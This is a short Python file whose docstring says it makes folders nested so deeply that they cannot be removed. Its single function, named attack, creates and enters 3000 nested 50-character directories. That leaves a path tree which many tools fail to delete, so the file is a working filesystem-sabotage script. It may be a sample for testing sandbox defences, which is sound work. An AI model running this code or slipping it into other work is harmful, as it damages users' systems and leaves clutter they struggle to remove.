"""Makes folders nested so deeply that they cannot be removed."""

import os


def attack():
    for _ in range(3000):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
